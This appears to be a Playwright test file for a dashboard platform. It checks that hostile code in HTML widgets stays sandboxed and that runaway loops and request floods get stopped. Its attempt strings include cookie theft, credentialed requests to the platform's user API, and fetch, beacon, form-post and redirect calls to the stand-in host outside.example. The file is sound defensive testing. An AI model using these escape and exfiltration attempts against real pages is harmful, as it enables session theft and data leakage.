import type { Locator, Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'

/** Where hostile code wants to; no request may ever go there. */
const outside = 'outside.example'
type Document = { html?: string; css?: string; js?: string }

const idOf = (at: number) => `00000000-0000-4000-8000-${String(at).padStart(12, '0')}`

const configurationOf = (documents: Readonly<Record<string, Document>>) => {
  const named = Object.entries(documents)
  const places = named.map((_, at) => ({ sizeX: 8, sizeY: 3, row: Math.floor(at / 3) * 3, col: (at % 3) * 8 }))
  return {
    widgets: Object.fromEntries(
      named.map(([title, { html = '<p>Here</p>', css = '', js = '' }], at) => [
        idOf(at),
        {
          ...places[at],
          ...{ id: idOf(at), typeFullFqn: 'system.html_container', type: 'latest' },
          config: { title, showTitle: true, datasources: [], settings: { type: 'PLAIN', html, css, js } },
        },
      ]),
    ),
    states: {
      default: {
        ...{ name: 'default', root: true },
        layouts: {
          main: {
            widgets: Object.fromEntries(places.map((place, at) => [idOf(at), place])),
            gridSettings: { columns: 24 },
          },
        },
      },
    },
    ...{ entityAliases: {}, filters: {}, settings: {} },
  }
}

/** Notes what hostile code would have reached: requests that are answered, also to the platform, dialogs, windows, the page. */
const watch = async (page: Page) => {
  const reached: string[] = []
  await page.context().route(
    (url) => url.hostname.endsWith(outside),
    (route) => {
      reached.push(route.request().url())
      return route.abort()
    },
  )
  // One that a policy refuses is told of, too, but never answered.
  page.on('response', (response) => {
    const request = response.request()
    if (new URL(request.url()).searchParams.has('hostile')) reached.push(request.url())
  })
  page.on('dialog', (dialog) => {
    reached.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => reached.push(`window ${popup.url()}`))
  return reached
}

/** Tells in the document how an attempt ended. */
const attempt = (name: string, code: string) =>
  `try { const got = await (async () => { ${code} })(); say('${name}', got === undefined ? 'nothing' : 'got ' + got) } catch (error) { say('${name}', 'refused ' + error.name) }`

test('a hostile document reaches neither the page nor the platform, nor anywhere else', async ({
  tenantPage: page,
  platform,
}) => {
  const reached = await watch(page)
  const attempts: Readonly<Record<string, string>> = {
    parent: 'return parent.document.title',
    top: 'return top.document.cookie',
    cookie: 'document.cookie = "stolen=1"; return document.cookie',
    storage: "return localStorage.getItem('theme')",
    session: "sessionStorage.setItem('a', 'b')",
    database: "indexedDB.open('x'); return 'opened'",
    rest: "return (await fetch(location.ancestorOrigins?.[0] + '/api/auth/user?hostile=1', { credentials: 'include' })).status",
    xhr: "const x = new XMLHttpRequest(); x.open('GET', 'http://127.0.0.1/api/auth/user?hostile=1', false); x.send(); return x.status",
    network: `return (await fetch('https://${outside}/f')).status`,
    module: `await import('https://${outside}/m.js')`,
    navigate: `top.location = 'https://${outside}/top'`,
    away: `parent.location = 'https://${outside}/parent'`,
    popup: `const opened = open('https://${outside}/popup'); if (!opened) throw new Error('closed')`,
    opener: 'return opener.document.title',
    frame: 'return parent.parent.frames.length && parent.parent.document.body.innerHTML',
    worker: `new Worker('https://${outside}/w.js')`,
    beacon: `if (!navigator.sendBeacon('https://${outside}/b', 'x')) throw new Error('closed'); return undefined`,
  }
  const js = `
    const say = (name, text) => { const line = document.createElement('p'); line.textContent = name + ': ' + text; document.body.append(line) }
    alert('hostile')
    ${Object.entries(attempts)
      .map(([name, code]) => attempt(name, code))
      .join('\n')}
    const image = new Image(); image.src = 'https://${outside}/i.png'
    say('end', 'reached')`
  const html = `<p>Markup</p><img src="https://${outside}/img.png"><link rel="stylesheet" href="https://${outside}/s.css">
    <script src="https://${outside}/s.js"></script>`
  const css = `@import url('https://${outside}/import.css'); body { background: url(https://${outside}/bg.png) }`
  // One that goes away is gone: what it wanted to load is refused, and nothing answers any more.
  const leavers: Readonly<Record<string, Document>> = {
    form: {
      js: `const form = document.createElement('form'); form.action = 'https://${outside}/form'; form.method = 'post'; document.body.append(form); form.submit()`,
    },
    refresh: { html: `<meta http-equiv="refresh" content="0; url=https://${outside}/refresh">`, js: 'void 0' },
    location: { js: `setTimeout(() => { location = 'https://${outside}/away' }, 50)` },
    nested: {
      js: `const frame = document.createElement('iframe'); frame.src = 'https://${outside}/frame'; document.body.append(frame)`,
    },
  }
  const id = await platform.createDashboard(
    `Hostile document ${Date.now()}`,
    configurationOf({
      hostile: { html, css, js },
      ...leavers,
      good: { html: '<p id="out"></p>', js: "out.textContent = '6 × 7 = ' + 6 * 7" },
    }),
  )
  await page.goto(`/dashboards/${id}`)
  const inner = (title: string) =>
    page
      .getByRole('region', { name: title, exact: true })
      .locator('iframe')
      .contentFrame()
      .locator('iframe')
      .contentFrame()
  await expect(inner('good').getByText('6 × 7 = 42')).toBeVisible({ timeout: 30_000 })
  await expect(inner('hostile').getByText('end: reached')).toBeAttached({ timeout: 30_000 })
  const lines = await inner('hostile').locator('p').allTextContents()
  const told = new Map(
    lines.filter((line) => line.includes(': ')).map((line) => [line.split(': ')[0], line.split(': ')[1] ?? '']),
  )
  for (const name of Object.keys(attempts)) expect.soft(told.get(name), name).toMatch(/^refused|^nothing/)
  await expect(page).toHaveURL(new RegExp(`/dashboards/${id}`))
  expect(await page.evaluate(() => document.cookie)).not.toContain('stolen')
  expect(reached).toEqual([])
  await platform.remove(`/api/dashboard/${id}`)
})

const good: Document = {
  html: '<p id="out"></p>',
  js: "let n = 0; setInterval(() => { out.textContent = 'beat ' + (n += 1) }, 100)",
}
const inner = (widget: Locator) => widget.locator('iframe').contentFrame().locator('iframe').contentFrame()

test('loops of documents that never end are stopped by a clock, and the board lives', async ({
  tenantPage: page,
  platform,
}) => {
  const endless: Readonly<Record<string, Document>> = {
    loop: { js: 'for (;;) {}' },
    recursion: { js: 'const fib = (n) => (n < 2 ? n : fib(n - 1) + fib(n - 2)); fib(90)' },
    markup: { html: '<p>Here</p><script>while (true);</script>' },
    later: { js: 'setTimeout(() => { do {} while (true) }, 50)' },
  }
  const id = await platform.createDashboard(`Endless documents ${Date.now()}`, configurationOf({ ...endless, good }))
  await page.goto(`/dashboards/${id}`)
  const widget = (title: string) => page.getByRole('region', { name: title, exact: true })
  for (const title of Object.keys(endless))
    await expect
      .soft(widget(title).getByRole('alert'), title)
      .toContainText('two seconds without a pause', { timeout: 30_000 })
  const out = inner(widget('good')).locator('#out')
  const before = await out.textContent()
  await expect(out).not.toHaveText(before ?? '')
  await platform.remove(`/api/dashboard/${id}`)
})

test('documents that flood the page are taken away, and may be started again', async ({
  tenantPage: page,
  platform,
}) => {
  const reached = await watch(page)
  const flooding: Readonly<Record<string, Document>> = {
    flood: { js: "setInterval(() => { for (let n = 0; n < 5000; n++) ctx.http.get('/api/x?hostile=1') }, 50)" },
    past: { js: "setInterval(() => { for (let n = 0; n < 5000; n++) parent.parent.postMessage(n, '*') }, 50)" },
  }
  const id = await platform.createDashboard(`Floods ${Date.now()}`, configurationOf(flooding))
  await page.goto(`/dashboards/${id}`)
  const widget = (title: string) => page.getByRole('region', { name: title, exact: true })
  const stopped = async (title: string) =>
    expect(widget(title).getByRole('alert'), title).toContainText('more than the page can read', { timeout: 30_000 })
  await stopped('flood')
  await stopped('past')
  await widget('flood').getByRole('button', { name: 'Start it again' }).click()
  await expect(widget('flood').getByRole('button', { name: 'Start it again' })).toBeHidden()
  await stopped('flood')
  expect(reached).toEqual([])
  await platform.remove(`/api/dashboard/${id}`)
})

test('a loop that no clock can see is ended with its document', async ({ tenantPage: page, platform }) => {
  const id = await platform.createDashboard(
    `Hidden loop ${Date.now()}`,
    configurationOf({ hidden: { js: "setTimeout('for (;;) {}', 50)" }, value: { html: '<b>Markup alone</b>' } }),
  )
  await page.goto(`/dashboards/${id}`)
  const widget = (title: string) => page.getByRole('region', { name: title, exact: true })
  await expect(widget('hidden').getByRole('alert')).toContainText('did not answer any more', { timeout: 45_000 })
  await expect(widget('value').getByText('Markup alone')).toBeVisible()
  await page.getByRole('button', { name: /^Time window/ }).click()
  await expect(page.getByRole('dialog', { name: 'Time window' })).toBeVisible()
  await platform.remove(`/api/dashboard/${id}`)
})
